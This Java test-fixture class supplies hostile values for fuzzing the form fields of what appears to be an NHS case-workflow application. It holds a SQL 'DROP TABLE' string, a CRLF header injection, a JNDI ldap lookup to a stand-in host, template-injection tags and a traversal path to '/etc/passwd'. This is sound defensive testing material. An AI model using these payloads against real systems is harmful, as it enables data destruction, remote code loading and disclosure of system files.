package uk.nhs.icb.caseworkflows.app;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * What {@link HostileForms} types into a form's fields: odd values (percent-encoded, byte for byte,
 * each named for the report), answers of the wrong kind for a radio or a date box, and the names of
 * fields a form does not have.
 */
final class HostileFormText {

  private HostileFormText() {}

  /** Values typed where text is expected: each already percent-encoded, named for the report. */
  static final Map<String, String> ODD_VALUES = oddValues();

  static final List<String> ADDED_NAMES =
      List.of("id", "caseId", "version", "status", "role", "assignee", "_method", "__proto__", "x");

  static final List<String> WRONG_TYPES =
      List.of(
          "-1",
          "0",
          "1e309",
          "NaN",
          "true",
          "null",
          "[]",
          "{}",
          "yes ",
          "YES",
          "maybe",
          "accepted",
          "32",
          "13",
          "-2026",
          "２０２６",
          "٣",
          "0x1F",
          "99999999999999999999",
          "2026-02-30");

  /**
   * The values a field is given, percent-encoded: the kinds {@link HostileRequests} gives a JSON
   * field, in a form's terms (a form has no types but text, so a "wrong type" is text that is not
   * the answer a radio or a date box offers).
   */
  private static Map<String, String> oddValues() {
    Map<String, String> values = new LinkedHashMap<>();
    values.put("5,001 letters", HostileForms.encode("x".repeat(5_001)));
    values.put("5,001 accented letters", HostileForms.encode("é".repeat(5_001)));
    values.put("100,000 letters", HostileForms.encode("x".repeat(100_000)));
    values.put("2.2 MB of letters", "x".repeat(2_200_000));
    values.put("control characters", HostileForms.encode("\u0001\u0007\u001b[2J\u007f"));
    values.put("CR LF", HostileForms.encode("a\r\nSet-Cookie: x=1"));
    values.put("a NUL", HostileForms.encode("\u0000"));
    values.put("a NUL inside", HostileForms.encode("Waiting\u0000for records"));
    values.put("blank", HostileForms.encode("   \u00a0\u2003"));
    values.put("empty", "");
    values.put("right-to-left override", HostileForms.encode("\u202Eevil\u202C"));
    values.put("zero-width characters", HostileForms.encode("\u200B\u200C\u200D\uFEFF"));
    values.put("emoji and combining marks", HostileForms.encode("😀👩‍👩‍👧 e\u0301\u0301\u0301"));
    values.put("a surrogate in UTF-8", "%ED%A0%80");
    values.put("an overlong NUL", "%C0%80");
    values.put("bytes that are not UTF-8", "%FF%FE");
    values.put("a cut UTF-8 sequence", "%E2%82");
    values.put("a bare percent", "%");
    values.put("a bad escape", "%zz");
    values.put("fullwidth digits", HostileForms.encode("１２３"));
    values.put("markup", HostileForms.encode(HostileText.full("f01", "field").value()));
    values.put("SQL", HostileForms.encode("'; DROP TABLE complaint; --"));
    values.put("JNDI lookup", HostileForms.encode("${jndi:ldap://example.invalid/x}"));
    values.put("template tags", HostileForms.encode("#{7*7}{{7*7}}"));
    values.put("path traversal", HostileForms.encode("../../../../etc/passwd"));
    return values;
  }
}
